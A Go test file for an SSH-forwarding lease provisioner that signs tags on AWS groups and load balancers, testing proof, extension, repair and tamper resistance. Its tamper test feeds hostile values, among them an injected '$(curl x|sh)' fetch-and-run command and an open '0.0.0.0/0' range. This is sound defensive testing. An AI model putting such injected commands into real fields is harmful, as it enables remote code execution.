package provisioner_test

import (
	"maps"
	"math/rand/v2"
	"slices"
	"testing"
	"time"

	"github.com/sshforward/sshforward"
	"github.com/sshforward/sshforward/internal/testenv"
	"github.com/sshforward/sshforward/provisioner"
	"github.com/sshforward/sshforward/provisioner/fakeaws"
)

// onlyFound surveys without a store and expects one lease.
func (w *world) onlyFound() sshforward.Found {
	w.Helper()
	s, err := w.p.Survey(w.ctx, w.account(), nil)
	if err != nil {
		w.Fatal(err)
	}
	if len(s.Found) != 1 {
		w.Fatalf("%d leases are found, want one", len(s.Found))
	}
	return s.Found[0]
}

func (w *world) account() string { return w.opts.accounts[0].Name }

// retag writes tags on the lease's group and load balancer.
func (w *world) retag(l *sshforward.Lease, group, balancer map[string]string) {
	w.Helper()
	if len(group) > 0 {
		w.tag(group, "", l.Resources.GroupID)
	}
	if len(balancer) > 0 {
		w.tag(balancer, sshforward.Name(deployment, l.ID))
	}
}

// What is open is proven, whether its end has moved or not; what is not open is
// proven to be that; another key and another store are told apart.
func TestProof(t *testing.T) {
	both(t, worldOptions{}, func(w *world) {
		l := w.lease("web-1")
		w.open(l)
		if f := w.onlyFound(); f.Proof != sshforward.ProofValid || f.Lease.State != sshforward.Open || !slices.Equal(f.Lease.Sources, l.Sources) {
			w.Errorf("an open lease: proof %q, %s, from %v", f.Proof, f.Lease.State, f.Lease.Sources)
		}
		if n := len(w.tags(l)["balancer"]); n > 6 {
			w.Errorf("the load balancer has %d tags, want 6 at most: %v", n, w.tags(l)["balancer"])
		}
		l.ExpiresAt = l.ExpiresAt.Add(time.Hour)
		if _, err := w.p.Extend(w.ctx, l); err != nil {
			w.Fatal(err)
		}
		if f := w.onlyFound(); f.Proof != sshforward.ProofValid || f.Lease.ExpiresAt.Sub(l.ExpiresAt).Abs() > time.Second {
			w.Errorf("after an extension: proof %q, until %s, want %s", f.Proof, f.Lease.ExpiresAt, l.ExpiresAt)
		}
		stored, err := w.p.Survey(w.ctx, w.account(), []*sshforward.Lease{l})
		if err != nil {
			w.Fatal(err)
		}
		if f := stored.Found[0]; f.Retagged || f.Unsigned {
			w.Errorf("untouched tags: retagged %t, unsigned %t", f.Retagged, f.Unsigned)
		}
		for name, c := range map[string]struct {
			signing provisioner.Signing
			want    sshforward.Proof
		}{
			"another store": {provisioner.Signing{Key: testKey, Store: "another store"}, sshforward.ProofElsewhere},
			"another key":   {provisioner.Signing{Key: []byte("another key that is long enough too"), Store: testStore}, sshforward.ProofWrong},
			"no key":        {provisioner.Signing{}, sshforward.ProofUnchecked},
		} {
			w.opts.signing = &c.signing
			w.restart()
			if f := w.onlyFound(); f.Proof != c.want {
				w.Errorf("%s: proof %q, want %q", name, f.Proof, c.want)
			}
		}
	})
}

// The process dies between the tags of the group and those of the load balancer:
// either alone proves the later end.
func TestProofWhileTheEndMoves(t *testing.T) {
	inFake(t, worldOptions{}, func(w *world) {
		l := w.lease("web-1")
		w.open(l)
		before := w.tags(l)
		l.ExpiresAt = l.ExpiresAt.Add(time.Hour)
		if _, err := w.p.Extend(w.ctx, l); err != nil {
			w.Fatal(err)
		}
		after := w.tags(l)
		clock := func(tags map[string]string) map[string]string {
			return map[string]string{
				provisioner.TagExpires: tags[provisioner.TagExpires],
				provisioner.TagOpened:  tags[provisioner.TagOpened], provisioner.TagProof: tags[provisioner.TagProof],
			}
		}
		check := func(what string) {
			w.Helper()
			if f := w.onlyFound(); f.Proof != sshforward.ProofValid || f.Lease.ExpiresAt.Sub(l.ExpiresAt).Abs() > time.Second {
				w.Errorf("%s: proof %q, until %s, want %s", what, f.Proof, f.Lease.ExpiresAt, l.ExpiresAt)
			}
		}
		w.retag(l, nil, clock(before["balancer"]))
		check("only the group has moved")
		w.retag(l, nil, clock(after["balancer"]))
		w.retag(l, clock(before["group"]), nil)
		check("only the load balancer has moved")
	})
}

// Whatever somebody makes of a lease's own tags, a rebuild grants no more than was
// signed: either nothing is proven, or what is proven is what was signed.
func TestTamperedTagsGrantNothing(t *testing.T) {
	t.Parallel()
	rounds := testenv.UnlessRaced(300, 8)
	inFake(t, worldOptions{fake: fakeaws.Options{ELBBurst: -1}}, func(w *world) {
		l := w.lease("web-1")
		w.open(l)
		signed := w.tags(l)
		honest := w.onlyFound().Lease
		keys := slices.Sorted(maps.Keys(signed["group"]))
		keys = slices.DeleteFunc(keys, func(k string) bool { return k == provisioner.TagDeployment || k == provisioner.TagLease })
		values := []string{
			"", "true", "0.0.0.0/0", "203.0.113.0/24", "i-0other", "root", "$(curl x|sh)", "U0EVIL", "C0OPS/1.2", "3389",
			"87600h", "2036-01-01T00:00:00Z", "AAAAAAAAAAAAAAAAAAAAAA==", "production",
		}
		random := rand.New(rand.NewPCG(1, 2))
		for range rounds {
			change, both := map[string]string{}, random.IntN(2) == 0
			for range 1 + random.IntN(3) {
				change[keys[random.IntN(len(keys))]] = values[random.IntN(len(values))]
			}
			w.retag(l, change, nil)
			if both {
				at := map[string]string{}
				for _, k := range []string{provisioner.TagExpires, provisioner.TagOpened, provisioner.TagProof, provisioner.TagOwner} {
					if v, ok := change[k]; ok && v != "$(curl x|sh)" { // which ELB refuses
						at[k] = v
					}
				}
				if len(at) > 0 {
					w.retag(l, nil, at)
				}
			}
			f := w.onlyFound()
			if f.Proof == sshforward.ProofValid {
				got, want := f.Lease, honest
				if got.Owner != want.Owner || got.Instance.ID != want.Instance.ID || !got.ExpiresAt.Equal(want.ExpiresAt) || got.Max != want.Max ||
					!slices.Equal(got.Sources, want.Sources) || got.SSHUser != want.SSHUser || got.TargetPort != want.TargetPort ||
					got.Urgent != want.Urgent || got.Rule != want.Rule || got.Card != want.Card || got.State != want.State {
					w.Fatalf("after %v it is proven that %+v, and %+v was signed", change, got, want)
				}
			}
			stored, err := w.p.Survey(w.ctx, w.account(), []*sshforward.Lease{l})
			if err != nil {
				w.Fatal(err)
			}
			if changed := differs(w.tags(l), signed); changed != (stored.Found[0].Retagged || stored.Found[0].Unsigned) {
				w.Fatalf("after %v: changed %t, and the survey says retagged %t, unsigned %t", change, changed,
					stored.Found[0].Retagged, stored.Found[0].Unsigned)
			}
			w.retag(l, signed["group"], nil)
			w.retag(l, nil, signed["balancer"])
		}
	})
}

// differs reports whether the tags of the group or the load balancer say anything
// else than they did; a missing tag and an empty one say the same.
func differs(now, was map[string]map[string]string) bool {
	for _, what := range []string{"group", "balancer"} {
		for k, v := range now[what] {
			if v != was[what][k] {
				return true
			}
		}
	}
	return false
}

// What was changed is written again as the store has it, in one round.
func TestMendPutsTagsBack(t *testing.T) {
	both(t, worldOptions{}, func(w *world) {
		l := w.lease("web-1")
		w.open(l)
		before := w.tags(l)
		w.retag(l, map[string]string{provisioner.TagExpires: "2036-01-01T00:00:00Z", provisioner.TagOwner: "U0EVIL"}, nil)
		w.retag(l, nil, map[string]string{provisioner.TagExpires: "2036-01-01T00:00:00Z"})
		l.Drift.Retagged = true
		if _, err := w.p.Mend(w.ctx, l); err != nil {
			w.Fatal(err)
		}
		if after := w.tags(l); differs(after, before) {
			w.Errorf("tags are %v, want %v", after, before)
		}
		if f := w.onlyFound(); f.Proof != sshforward.ProofValid {
			w.Errorf("proof %q", f.Proof)
		}
	})
}
